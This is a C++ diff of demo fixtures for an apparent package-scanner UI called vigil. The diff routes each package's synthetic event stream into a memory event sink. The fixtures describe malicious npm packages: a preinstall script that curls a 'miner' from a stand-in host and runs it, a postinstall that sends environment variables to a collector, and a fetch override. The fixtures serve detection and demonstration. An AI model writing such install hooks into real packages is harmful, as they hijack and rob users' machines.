@@ -19,10 +19,12 @@ using engine::report::ScanReport;
 using engine::report::VersionChanges;
 using nlohmann::json;
 
+using EventSink = engine::report::MemoryEventSource;
+
 // Builds one package's event stream phase by phase, numbering events as the collector does.
 class EventScript {
 public:
-    explicit EventScript(PackageReport& package) : package_(package) {}
+    EventScript(PackageReport& package, std::vector<Event>& events) : package_(package), events_(events) {}
 
     EventScript& phase(const std::string& name, int durationMs, const std::string& outcome = "ok") {
         phase_ = name;
@@ -45,13 +47,14 @@ public:
         if (!file.empty())
             event.attribution = {package_.key(), file, line};
         package_.phases.back().countsByCategory[std::string(event.category())]++;
-        package_.events.push_back(std::move(event));
-        return package_.events.back().seq;
+        events_.push_back(std::move(event));
+        return events_.back().seq;
     }
     EvidenceRef ref(uint64_t seq, std::string summary) const { return {phase_, seq, std::move(summary)}; }
 
 private:
     PackageReport& package_;
+    std::vector<Event>& events_;
     std::string phase_;
     uint64_t seq_ = 0;
 };
@@ -66,7 +69,7 @@ void nodeStartup(EventScript& s, int pid, const std::string& entry) {
 }
 
 PackageReport benign(const std::string& name, const std::string& version, const std::string& category,
-                     std::vector<std::vector<std::string>> paths) {
+                     std::vector<std::vector<std::string>> paths, EventSink* sink) {
     PackageReport p;
     p.name = name;
     p.version = version;
@@ -75,7 +78,8 @@ PackageReport benign(const std::string& name, const std::string& version, const 
     p.score = 2;
     p.paths = std::move(paths);
     p.heat = {{"install", 0}, {"process", 0}, {"network", 0}, {"filesystem", 4}, {"env", 0}, {"code", 0}};
-    EventScript s(p);
+    std::vector<Event> events;
+    EventScript s(p, events);
     s.phase("install", 40);
     s.phase("import", 95);
     nodeStartup(s, 7, "index.js");
@@ -84,10 +88,12 @@ PackageReport benign(const std::string& name, const std::string& version, const 
     nodeStartup(s, 9, "index.js");
     s.add(140, 9, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
     p.fingerprint = {{"filesystem", {"read $PKG/index.js"}}, {"process", {"exec node"}}};
+    if (sink)
+        sink->add(p.key(), std::move(events));
     return p;
 }
 
-PackageReport envInspector() {
+PackageReport envInspector(EventSink* sink) {
     PackageReport p;
     p.name = "env-inspector";
     p.version = "1.0.3";
@@ -98,7 +104,8 @@ PackageReport envInspector() {
     p.paths = {{"env-inspector@1.0.3"}};
     p.installScripts = {{"postinstall", "node collect.js"}};
     p.heat = {{"install", 90}, {"process", 35}, {"network", 95}, {"filesystem", 10}, {"env", 100}, {"code", 0}};
-    EventScript s(p);
+    std::vector<Event> events;
+    EventScript s(p, events);
     s.phase("install", 1840);
     s.add(0, 3, 1, "/bin/sh", kind::ProcessExec, {{"path", "/bin/sh"}, {"argv", {"sh", "-c", "node collect.js"}}, {"env_names", {"npm_lifecycle_event", "PATH", "HOME"}}});
     s.add(2.2, 3, 1, "/bin/sh", kind::ProcessFork, {{"child_pid", 4}});
@@ -144,10 +151,12 @@ PackageReport envInspector() {
                      {"network", {"dns collector.vigil-demo.invalid", "connect :443", "http POST collector.vigil-demo.invalid/e"}},
                      {"process", {"exec sh -c node collect.js", "exec node"}},
                      {"filesystem", {"read $PKG/collect.js"}}};
+    if (sink)
+        sink->add(p.key(), std::move(events));
     return p;
 }
 
-PackageReport fastSetup() {
+PackageReport fastSetup(EventSink* sink) {
     PackageReport p;
     p.name = "fast-setup";
     p.version = "3.1.0";
@@ -159,7 +168,8 @@ PackageReport fastSetup() {
     p.installScripts = {{"preinstall", "sh setup.sh"},
                         {"setup.sh", "#!/bin/sh\ncurl -fsSL https://cdn.vigil-demo.invalid/miner -o /tmp/.cache-helper 2>/dev/null \\\n  && chmod +x /tmp/.cache-helper && /tmp/.cache-helper\nexit 0\n"}};
     p.heat = {{"install", 85}, {"process", 80}, {"network", 70}, {"filesystem", 55}, {"env", 0}, {"code", 0}};
-    EventScript s(p);
+    std::vector<Event> events;
+    EventScript s(p, events);
     s.phase("install", 2350);
     s.add(0, 3, 1, "/bin/sh", kind::ProcessExec, {{"path", "/bin/sh"}, {"argv", {"sh", "-c", "sh setup.sh"}}, {"env_names", {"npm_lifecycle_event", "PATH"}}});
     s.add(1.5, 3, 1, "/bin/sh", kind::ProcessFork, {{"child_pid", 4}});
@@ -234,10 +244,12 @@ PackageReport fastSetup() {
             line.evidence += ")";
     c.files = FileChanges{{"setup.sh"}, {"lib/legacy.js"}, {"index.js", "package.json"}};
     p.changes = std::move(c);
+    if (sink)
+        sink->add(p.key(), std::move(events));
     return p;
 }
 
-PackageReport fetchGuard() {
+PackageReport fetchGuard(EventSink* sink) {
     PackageReport p;
     p.name = "fetch-guard";
     p.version = "0.9.0";
@@ -247,7 +259,8 @@ PackageReport fetchGuard() {
     p.severity = Severity::Medium;
     p.paths = {{"fetch-guard@0.9.0"}};
     p.heat = {{"install", 0}, {"process", 0}, {"network", 10}, {"filesystem", 4}, {"env", 0}, {"code", 70}};
-    EventScript s(p);
+    std::vector<Event> events;
+    EventScript s(p, events);
     s.phase("install", 35);
     s.phase("import", 130);
     nodeStartup(s, 7, "index.js");
@@ -269,12 +282,14 @@ PackageReport fetchGuard() {
     f.events = {{"import", patch, "globalThis.fetch replaced at index.js:6"}};
     p.findings = {f};
     p.fingerprint = {{"code", {"override fetch"}}, {"network", {"fetch example.invalid"}}, {"process", {"exec node"}}};
+    if (sink)
+        sink->add(p.key(), std::move(events));
     return p;
 }
 
 }  // namespace
 
-ScanReport makeDemoScanReport() {
+ScanReport makeDemoScanReport(engine::report::MemoryEventSource* events) {
     ScanReport r;
     r.scanId = 12;
     r.projectPath = "examples/demo";
@@ -284,13 +299,15 @@ ScanReport makeDemoScanReport() {
     r.startedAt = r.finishedAt - std::chrono::seconds(14);
     r.analyzerVersion = "0.1.0";
     r.rulesVersion = "demo";
-    r.packages = {envInspector(),
-                  fastSetup(),
-                  fetchGuard(),
-                  benign("date-stamp", "0.4.2", "date", {{"date-stamp@0.4.2"}, {"fast-setup@3.1.0", "date-stamp@0.4.2"}}),
-                  benign("tiny-colors", "2.0.1", "terminal", {{"tiny-colors@2.0.1"}, {"fetch-guard@0.9.0", "tiny-colors@2.0.1"}}),
+    r.packages = {envInspector(events),
+                  fastSetup(events),
+                  fetchGuard(events),
+                  benign("date-stamp", "0.4.2", "date", {{"date-stamp@0.4.2"}, {"fast-setup@3.1.0", "date-stamp@0.4.2"}}, events),
+                  benign("tiny-colors", "2.0.1", "terminal", {{"tiny-colors@2.0.1"}, {"fetch-guard@0.9.0", "tiny-colors@2.0.1"}},
+                         events),
                   benign("tiny-pad", "1.2.0", "string",
-                         {{"tiny-pad@1.2.0"}, {"date-stamp@0.4.2", "tiny-pad@1.2.0"}, {"tiny-colors@2.0.1", "tiny-pad@1.2.0"}})};
+                         {{"tiny-pad@1.2.0"}, {"date-stamp@0.4.2", "tiny-pad@1.2.0"}, {"tiny-colors@2.0.1", "tiny-pad@1.2.0"}},
+                         events)};
     r.packages[4].heat["code"] = 0;
     r.totalPackages = r.analysed = r.packages.size();
     for (const auto& p : r.packages)
@@ -304,7 +321,7 @@ ScanReport makeDemoScanReport() {
 }
 
 PackageReport makeDemoPreviousVersion(const std::string& name) {
-    PackageReport previous = benign(name, "3.0.9", "build", {{name + "@3.0.9"}});
+    PackageReport previous = benign(name, "3.0.9", "build", {{name + "@3.0.9"}}, nullptr);
     previous.fingerprint = {{"process", {"exec node"}}, {"filesystem", {"read $PKG/index.js"}}};
     return previous;
 }
@@ -347,6 +364,12 @@ ScanReport makeSyntheticScanReport(std::size_t packages, unsigned seed) {
     }
     r.totalPackages = r.analysed = packages;
     return r;
+}
+
+std::shared_ptr<engine::report::MemoryEventSource> makeDemoEvents() {
+    auto events = std::make_shared<engine::report::MemoryEventSource>();
+    (void)makeDemoScanReport(events.get());
+    return events;
 }
 
 }  // namespace vigil::ui
